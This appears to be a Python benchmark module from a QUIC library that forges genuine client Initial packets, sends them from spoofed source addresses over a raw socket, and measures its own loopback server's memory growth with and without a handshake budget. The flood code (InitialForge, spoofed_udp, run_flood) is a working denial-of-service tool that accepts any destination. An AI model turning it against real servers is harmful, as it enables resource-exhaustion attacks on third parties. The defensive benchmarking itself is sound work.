"""Spoofed-source Initial flood: valid client Initials, each with its own connection IDs and source.

:class:`InitialForge` takes the first Initial of a real client (our stack, one ClientHello) and
re-protects its plaintext under fresh connection IDs, so every datagram is a genuine Initial a server
must decrypt and may create a connection for (RFC 9001 §5.2: Initial keys derive from the DCID),
at tens of microseconds each instead of a full ClientHello. :func:`spoofed_udp` builds an IPv4/UDP
packet with any source address for a raw socket (``IP_HDRINCL``, root; loopback or a namespace of
ours only). :func:`run_flood` sends a number of them at a bounded rate.
"""

from __future__ import annotations

import socket
import struct
import time
from collections.abc import Callable, Iterator

from ..quic.config import QuicConfiguration
from ..quic.connection import QuicConnection
from ..quic.crypto import CryptoPair
from ..quic.packet import pull_quic_header
from ..tls.certificates import InsecureVerifier
from ..wire.buffer import Buffer
from ..wire.checksum import internet_checksum


class InitialForge:
    """Re-protects one real client Initial under any (DCID, SCID) of the template's lengths (the
    SCID is also replaced in the ClientHello's transport parameters, so the server accepts it)."""

    def __init__(self, server_name: str = "localhost", rng: Callable[[int], bytes] | None = None):
        import os

        cfg = QuicConfiguration(is_client=True, server_name=server_name, rng=rng or os.urandom,
                                peer_verifier=InsecureVerifier())
        client = QuicConnection(configuration=cfg)
        client.connect(("127.0.0.1", 443), 0.0)
        datagram = client.datagrams_to_send(0.0)[0][0]
        header = pull_quic_header(Buffer(data=datagram), host_cid_length=8)
        self.version = header.version or 1
        self._dcid_len, self._scid_len = len(header.destination_cid), len(header.source_cid)
        keys = CryptoPair()
        keys.setup_initial(header.destination_cid, is_client=False, version=self.version)
        packet = datagram[:header.packet_end]
        plain_header, payload, pn = keys.recv.decrypt_packet(packet, header.pn_offset, 0)
        self._payload, self._pn = payload, pn
        # The SCID is also in the ClientHello's initial_source_connection_id (RFC 9000 §7.3).
        self._scid = header.source_cid
        if payload.count(self._scid) != 1:
            raise ValueError("the template's SCID must appear once in its ClientHello")
        # First byte, version | DCID len, DCID | SCID len, SCID | the rest of the header.
        self._first = plain_header[:5]
        self._rest = plain_header[7 + self._dcid_len + self._scid_len:]
        self._tail = datagram[header.packet_end:]
        self.size = len(datagram)

    def forge(self, dcid: bytes, scid: bytes) -> bytes:
        """The template Initial under ``dcid``/``scid`` (same lengths as the template's)."""
        if len(dcid) != self._dcid_len or len(scid) != self._scid_len:
            raise ValueError(f"connection IDs must be {self._dcid_len} and {self._scid_len} bytes")
        plain_header = b"".join((self._first, bytes([len(dcid)]), dcid, bytes([len(scid)]), scid,
                                 self._rest))
        keys = CryptoPair()
        keys.setup_initial(dcid, is_client=True, version=self.version)
        payload = self._payload.replace(self._scid, scid)
        return keys.encrypt_packet(plain_header, payload, self._pn) + self._tail


def spoofed_udp(payload: bytes, src: tuple[str, int], dst: tuple[str, int]) -> bytes:
    """An IPv4 header + UDP header + ``payload`` from ``src`` (UDP checksum 0: none, RFC 768)."""
    total = 20 + 8 + len(payload)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0x4000, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src[0]), socket.inet_aton(dst[0]))
    ip = ip[:10] + struct.pack("!H", internet_checksum(ip)) + ip[12:]
    udp = struct.pack("!HHHH", src[1], dst[1], 8 + len(payload), 0)
    return ip + udp + payload


def spoofed_sources(n: int, first_octet: int = 127, second: int = 77) -> Iterator[tuple[str, int]]:
    """``n`` distinct (address, port) pairs in ``first_octet.second.x.y`` (256 ports per address)."""
    for i in range(n):
        host, port_index = divmod(i, 256)
        yield (f"{first_octet}.{second}.{host // 250}.{host % 250 + 1}", 20000 + port_index)


def run_flood(dst: tuple[str, int], count: int, rate: float, *, forge: InitialForge | None = None,
              rng: Callable[[int], bytes] | None = None,
              progress: Callable[[int], None] | None = None) -> float:
    """Send ``count`` spoofed-source Initials to ``dst`` at most ``rate`` per second; return seconds.

    Needs root (raw socket). Sources are :func:`spoofed_sources` (distinct address and port each).
    """
    import os

    rng = rng or os.urandom
    forge = forge or InitialForge()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    try:
        raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        for i, src in enumerate(spoofed_sources(count)):
            due = start + i / rate
            delay = due - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            packet = spoofed_udp(forge.forge(rng(8), rng(8)), src, dst)
            try:
                raw.sendto(packet, (dst[0], 0))
            except OSError:
                pass  # a full send buffer drops it, as the network would
            if progress is not None and (i + 1) % 5000 == 0:
                progress(i + 1)
    finally:
        raw.close()
    return time.monotonic() - start


def _rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise RuntimeError("no VmRSS")


def _server_under_flood(max_handshakes: int, count: int, rate: float, workdir: str) -> tuple[float, float]:
    """Our CLI server with ``--max-handshakes``, flooded; returns (RSS before, peak RSS) in MB."""
    import subprocess
    import sys
    import threading
    from pathlib import Path

    from ..scenarios.peers.base import free_udp_port
    from ..scenarios.peers.certs import make_test_cert

    cert, key, _ = make_test_cert(Path(workdir))
    port = free_udp_port()
    argv = [sys.executable, "-m", "quicreality", "server", "--listen", f"127.0.0.1:{port}",
            "--cert", str(cert), "--key", str(key), "--max-handshakes", str(max_handshakes)]
    server = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        assert server.stdout is not None
        if "listening on" not in server.stdout.readline():
            raise RuntimeError("the server did not start")
        before = peak = _rss_mb(server.pid)
        done = threading.Event()

        def sample() -> None:
            nonlocal peak
            while not done.wait(0.2):
                peak = max(peak, _rss_mb(server.pid))

        sampler = threading.Thread(target=sample, daemon=True)
        sampler.start()
        run_flood(("127.0.0.1", port), count, rate,
                  progress=lambda n: print(f"  {n} sent", flush=True))
        time.sleep(2.0)  # let the server catch up with what the kernel queued
        done.set()
        sampler.join()
        return before, max(peak, _rss_mb(server.pid))
    finally:
        server.terminate()
        try:
            server.wait(10)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait()


def main(argv: list[str]) -> int:
    """``python -m quicreality.bench flood [--count N] [--rate R]`` (root): server RSS growth under
    a spoofed-source Initial flood with the default handshake budget and with none, same run."""
    import argparse
    import os
    import sys
    import tempfile

    from ..quic.admission import DEFAULT_MAX_HANDSHAKES

    p = argparse.ArgumentParser(prog="python -m quicreality.bench flood", description=main.__doc__)
    p.add_argument("--count", type=int, default=5000, help="Initials per server (default 5000)")
    p.add_argument("--rate", type=float, default=500.0, help="Initials per second (default 500)")
    args = p.parse_args(argv)
    if args.count < 1:
        print("error: --count must be at least 1", file=sys.stderr)
        return 2
    if args.rate <= 0:
        print("error: --rate must be positive", file=sys.stderr)
        return 2
    if os.geteuid() != 0:
        print("error: the flood needs a raw socket (run as root)", file=sys.stderr)
        return 2
    growth = {}
    for name, limit in (("budget", DEFAULT_MAX_HANDSHAKES), ("no budget", 10**9)):
        print(f"{name} (--max-handshakes {limit}): {args.count} Initials at {args.rate:.0f}/s")
        with tempfile.TemporaryDirectory(prefix="qr-flood-") as d:
            before, peak = _server_under_flood(limit, args.count, args.rate, d)
        growth[name] = peak - before
        print(f"  RSS {before:.1f} MB -> peak {peak:.1f} MB (+{growth[name]:.1f} MB)")
    ratio = growth["no budget"] / growth["budget"] if growth["budget"] > 0 else float("inf")
    print(f"RSS growth without the budget / with it: {ratio:.1f}x")
    return 0
